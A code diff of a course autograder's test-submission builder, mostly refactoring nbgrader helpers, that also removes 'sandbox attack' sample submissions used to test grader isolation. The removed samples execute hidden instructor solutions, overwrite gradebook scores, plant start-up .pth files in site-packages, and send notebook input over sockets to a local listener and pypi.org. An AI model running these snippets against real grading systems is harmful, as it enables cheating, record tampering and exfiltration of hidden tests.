@@ -13,18 +13,17 @@ import argparse
 import copy
 import json
 import re
-import socket
 import sys
 import tempfile
 import textwrap
-import threading
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Callable
 
 import nbformat
 
-ROOT = Path(__file__).resolve().parents[1]
+from .notebooks import defined_functions, is_solution, is_test, load, nbgrader_meta
+
 BEGIN_HIDDEN = "### BEGIN HIDDEN TESTS"
 
 
@@ -39,44 +38,23 @@ class Submission:
 
 # --------------------------------------------------------------------------- reading a chapter
 
-def load(kind: str, chapter: str) -> nbformat.NotebookNode:
-    """kind is 'solutions' or 'chapters'."""
-    return nbformat.read(ROOT / kind / chapter / f"{chapter}.ipynb", as_version=4)
-
-
-def _meta(cell) -> dict:
-    return cell.get("metadata", {}).get("nbgrader", {})
-
-
-def is_solution(cell) -> bool:
-    return bool(_meta(cell).get("solution"))
-
-
-def is_test(cell) -> bool:
-    return cell.cell_type == "code" and bool(_meta(cell).get("grade")) and not _meta(cell).get("solution")
-
-
-def defined_functions(source: str) -> list[str]:
-    return re.findall(r"^def (\w+)", source, flags=re.M)
-
-
 class Chapter:
     """What the builders need to know about one chapter: cells, points, who tests what."""
 
     def __init__(self, chapter: str):
         self.id = chapter
         self.source, self.release = load("solutions", chapter), load("chapters", chapter)
-        self.points = {_meta(c)["grade_id"]: float(_meta(c)["points"]) for c in self.source.cells if is_test(c)}
+        self.points = {nbgrader_meta(c)["grade_id"]: float(nbgrader_meta(c)["points"]) for c in self.source.cells if is_test(c)}
         self.total = sum(self.points.values())
-        self.solutions = {_meta(c)["grade_id"]: c.source for c in self.source.cells if is_solution(c)}
-        self.tests = {_meta(c)["grade_id"]: c.source for c in self.source.cells if is_test(c)}
+        self.solutions = {nbgrader_meta(c)["grade_id"]: c.source for c in self.source.cells if is_solution(c)}
+        self.tests = {nbgrader_meta(c)["grade_id"]: c.source for c in self.source.cells if is_test(c)}
 
     def solved(self) -> nbformat.NotebookNode:
         """The release with every exercise cell filled in with the solution's code."""
         nb = copy.deepcopy(self.release)
         for cell in nb.cells:
             if is_solution(cell):
-                cell.source = self.solutions[_meta(cell)["grade_id"]]
+                cell.source = self.solutions[nbgrader_meta(cell)["grade_id"]]
         return nb
 
     def first_exercise(self, nb) -> nbformat.NotebookNode:
@@ -89,7 +67,7 @@ class Chapter:
 
     def points_before(self, nb, index: int) -> float:
         """Points of the test cells above cell ``index``."""
-        return sum(self.points[_meta(c)["grade_id"]] for c in nb.cells[:index] if is_test(c))
+        return sum(self.points[nbgrader_meta(c)["grade_id"]] for c in nb.cells[:index] if is_test(c))
 
     def points_hidden_mentioning(self, word: str) -> float:
         return sum(self.points[g] for g, src in self.tests.items() if word in src.split(BEGIN_HIDDEN, 1)[-1])
@@ -325,7 +303,7 @@ def _colab(ch: Chapter) -> Submission:
     for cell in nb.cells[index:index + 2]:  # the first exercise and its test, copied into new cells
         cell.metadata.pop("nbgrader", None)
     for cell in nb.cells:
-        meta = _meta(cell)
+        meta = nbgrader_meta(cell)
         meta.pop("checksum", None)
         meta.pop("schema_version", None)  # nbgrader would stop the whole batch on this one
     return Submission(nb, ch.total, "a Colab download: ids and tags gone, metadata changed or dropped")
@@ -379,125 +357,6 @@ PIPELINE_KINDS = ("uninterruptible-loop", "kernel-dies", "prints-megabytes", "me
                   "tampered-metadata", "not-a-notebook")
 
 
-# --------------------------------------------------------------------------- sandbox attacks
-
-ATTACK_READ = """
-    # read the instructor's solutions and run them
-    import json, pathlib, course_lib
-    root = pathlib.Path(course_lib.__file__).resolve().parents[1]
-    source = json.loads((root / "solutions" / "{chapter}" / "{chapter}.ipynb").read_text())
-    for cell in source["cells"]:
-        if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
-            exec("".join(cell["source"]), globals())
-    print("read the solutions")
-    """
-ATTACK_GRADEBOOK = """
-    # give everybody full marks in the gradebook, wherever it is
-    import os, pathlib, sqlite3
-    found = []
-    for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:
-        if (folder / "gradebook.db").exists():
-            found.append(folder / "gradebook.db")
-    for path in found:
-        db = sqlite3.connect(path)
-        db.execute("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)")
-        db.commit()
-    print("gradebooks found:", found)
-    """
-ATTACK_PACKAGES = """
-    # make every later student pass: files in course_lib, site-packages (a .pth runs at start-up)
-    import pathlib, site, course_lib, torch
-    targets = [pathlib.Path(course_lib.__file__).parent / "_selftest_pwned.py",
-               pathlib.Path(torch.__file__).parent / "_selftest_pwned.py",
-               *[pathlib.Path(p) / "_selftest_pwned.pth" for p in site.getsitepackages()]]
-    for target in targets:
-        try:
-            target.write_text("import builtins; builtins.SELFTEST_PWNED = True\\n")
-            print("wrote", target)
-        except OSError as err:
-            print("could not write", target, type(err).__name__)
-    """
-ATTACK_NETWORK = """
-    # send the hidden tests home
-    import socket
-    payload = "\\n".join(In).encode()
-    for host in ("127.0.0.1", "pypi.org"):
-        try:
-            with socket.create_connection((host, {port} if host == "127.0.0.1" else 443), timeout=3) as s:
-                s.sendall(payload)
-            print("sent to", host)
-        except OSError as err:
-            print("no network:", host, type(err).__name__)
-    """
-ATTACK_VICTIM_CHECK = """
-    import builtins
-    assert not getattr(builtins, "SELFTEST_PWNED", False), "a previous student's files were loaded"
-    """
-
-
-def pwned_files() -> list[Path]:
-    """Files the package attack creates when it succeeds (the test removes them)."""
-    import site
-
-    import course_lib
-    import torch
-
-    return [Path(course_lib.__file__).parent / "_selftest_pwned.py", Path(torch.__file__).parent / "_selftest_pwned.py",
-            *[Path(p) / "_selftest_pwned.pth" for p in site.getsitepackages()]]
-
-
-def sandbox_attacks(chapter: str, port: int) -> dict[str, Submission]:
-    """Students that attack the grader, and students graded after them who must be unaffected.
-
-    Ids sort so that victims are graded both before ('a-...') and after ('z-...') the attackers.
-    """
-    ch = Chapter(chapter)
-
-    def blank_with(attack: str) -> nbformat.NotebookNode:
-        nb = copy.deepcopy(ch.release)
-        after_setup(nb, code(attack))
-        return nb
-
-    solved_network = ch.solved()
-    solved_network.cells.append(code(ATTACK_NETWORK.format(port=port)))
-    victim = ch.solved()
-    after_setup(victim, code(ATTACK_VICTIM_CHECK))
-    return {
-        "a-blank-before": Submission(copy.deepcopy(ch.release), 0, "graded before the attacks"),
-        "a-solution-before": Submission(ch.solved(), ch.total, "graded before the attacks"),
-        "m-reads-solutions": Submission(blank_with(ATTACK_READ.format(chapter=chapter)), 0,
-                                        "reads solutions/ and runs it"),
-        "m-writes-gradebook": Submission(blank_with(ATTACK_GRADEBOOK), 0, "rewrites gradebook.db"),
-        "m-edits-packages": Submission(blank_with(ATTACK_PACKAGES), 0, "writes into course_lib, torch, site-packages"),
-        "m-network": Submission(solved_network, ch.total, "sends In[] to a server"),
-        "z-blank-after": Submission(copy.deepcopy(ch.release), 0, "graded after the attacks"),
-        "z-solution-after": Submission(victim, ch.total, "graded after the attacks, checks for planted files"),
-    }
-
-
-class Listener:
-    """A TCP server on the host's loopback that records whatever a sandboxed kernel sends it."""
-
-    def __init__(self):
-        self.server = socket.create_server(("127.0.0.1", 0))
-        self.port = self.server.getsockname()[1]
-        self.received: list[bytes] = []
-        self.thread = threading.Thread(target=self._serve, daemon=True)
-        self.thread.start()
-
-    def _serve(self):
-        while True:
-            try:
-                conn, _ = self.server.accept()
-            except OSError:
-                return
-            with conn:
-                self.received.append(conn.recv(1 << 16))
-
-    def close(self):
-        self.server.close()
-
-
 # --------------------------------------------------------------------------- batches
 
 def submissions(chapter: str, kinds: list[str] | None = None) -> dict[str, Submission]:
@@ -519,6 +378,7 @@ def write(batch: dict[str, Submission], folder: Path, chapter: str) -> Path:
 
 
 def main(argv: list[str] | None = None) -> int:
+    from .attacks import Listener, pwned_files, sandbox_attacks
     from .autograde import autograde_chapters
     from .nbgrader_cli import chapter_ids
 
